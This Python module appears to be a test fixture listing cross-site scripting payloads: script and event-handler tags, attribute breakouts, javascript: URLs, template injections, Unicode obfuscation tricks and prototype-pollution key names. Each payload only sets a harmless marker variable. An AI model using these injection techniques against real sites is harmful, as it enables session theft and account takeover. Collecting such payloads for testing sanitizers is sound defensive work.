"""Cross-site scripting payloads. Each would set `window.__pwned` if it ran."""

_DO = "window.__pwned=1"

MARKUP = (
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script>{_DO}//",
    f"</script><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"--><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror='{_DO}'>",
    f'<IMG """><SCRIPT>{_DO}</SCRIPT>">',
    f"<img/src/onerror={_DO}>",
    f"<image href=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg/onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_DO}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={_DO}></foreignObject></svg>",
    f"<math><mi//xlink:href='data:x,<script>{_DO}</script>'>",
    f"<iframe src=javascript:parent.{_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
    f"<object data=javascript:{_DO}>",
    f"<embed src=javascript:{_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<form action=javascript:{_DO}><button>x</button></form>",
    f"<a href=javascript:{_DO}>x</a>",
    f"<base href='javascript:/a/-{_DO}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    f"<link rel=stylesheet href='data:,*{{}}' onload={_DO}>",
    f"<style>@import 'javascript:{_DO}';</style>",
    f"<style onload={_DO}></style>",
    f"<template><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
)
ATTRIBUTES = (
    f'" onmouseover="{_DO}" x="',
    f"' onfocus='{_DO}' autofocus='",
    f"` onload=`{_DO}",
    f'"><img src=x onerror={_DO}>',
    f"'-({_DO})-'",
    f'";{_DO};//',
    f"</div></td></tr><script>{_DO}</script>",
)
ADDRESSES = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f"data:text/html,<script>parent.{_DO}</script>",
    f'https://example.invalid/x" onclick="{_DO}',
    f"//example.invalid/%0d%0a{_DO}",
)
TEMPLATES = (
    f"${{{_DO}}}",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"<${{'img'}} src=x onerror={_DO} />",
    "<//>${html`<b>bold</b>`}",
    f"#{{{_DO}}} <%= {_DO} %>",
)
SCRIPTS = (
    f"\u202egnp.{_DO}\u202c exe",
    f"\u200b<script>{_DO}</script>\ufeff",
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"\x1b[31m{_DO}\x07",
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "dangerouslySetInnerHTML",
)

ALL = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *SCRIPTS, *NAMES)

_HIDDEN = {
    *range(0x09),
    *range(0x0B, 0x20),
    *range(0x7F, 0xA0),
    *(0xAD, 0x61C, 0xFEFF),
    *range(0x200B, 0x2010),
    *range(0x2028, 0x202F),
    *range(0x2060, 0x2070),
}


def as_seen(text: str) -> str:
    """Return the text as the page shows it: invisible characters are escaped."""
    return "".join(f"\\u{ord(one):04x}" if ord(one) in _HIDDEN else one for one in text)
